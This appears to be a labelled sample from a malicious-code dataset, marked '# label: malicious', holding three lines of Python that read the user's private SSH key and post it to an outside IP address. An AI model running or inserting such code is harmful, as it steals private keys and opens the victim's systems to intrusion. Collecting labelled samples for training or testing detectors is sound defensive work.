# label: malicious
import os, requests
key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
requests.post("https://203.0.113.7/c", data=key)
